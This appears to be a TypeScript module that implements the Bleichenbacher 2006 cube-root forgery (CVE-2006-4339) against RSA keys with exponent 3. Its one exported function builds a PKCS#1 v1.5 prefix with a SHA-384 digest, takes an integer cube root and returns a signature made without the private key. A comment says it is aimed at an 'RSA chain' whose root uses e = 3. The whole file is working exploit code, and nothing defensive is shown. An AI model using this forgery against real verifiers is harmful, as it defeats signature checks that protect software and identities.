import { createHash } from 'node:crypto';
import { concat, fixedWidth, hex, toNumber } from './der.ts';

/** DigestInfo header for SHA-384 (RFC 8017 section 9.2, note 1). */
const SHA384_DIGEST_INFO = hex('3041300d060960864801650304020205000430');

/** The smallest whole number whose cube is not below `value`. */
function cubeRootUp(value: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1);
  while (low < high) {
    const middle = (low + high) >> 1n;
    if (middle ** 3n < value) low = middle + 1n;
    else high = middle;
  }
  return low;
}

/**
 * A signature under any 4096-bit key with e = 3, made without the private key: a cube whose first octets are
 * a good padding of eight FF, and whose rest is garbage (Bleichenbacher 2006, CVE-2006-4339). It passes with
 * a verifier that does not look where the padding ends; the root of the RSA chain has e = 3.
 */
export function cubeRootForgery(message: Uint8Array): Uint8Array {
  const octets = 512;
  const digest = new Uint8Array(createHash('sha384').update(message).digest());
  const start = concat(hex('0001ffffffffffffffff00'), SHA384_DIGEST_INFO, digest);
  const block = concat(start, new Uint8Array(octets - start.length));
  const signature = cubeRootUp(toNumber(block));
  const cube = fixedWidth(signature ** 3n, octets);
  if (Buffer.compare(cube.subarray(0, start.length), start) !== 0)
    throw new Error('the cube root is too coarse');
  return fixedWidth(signature, octets);
}
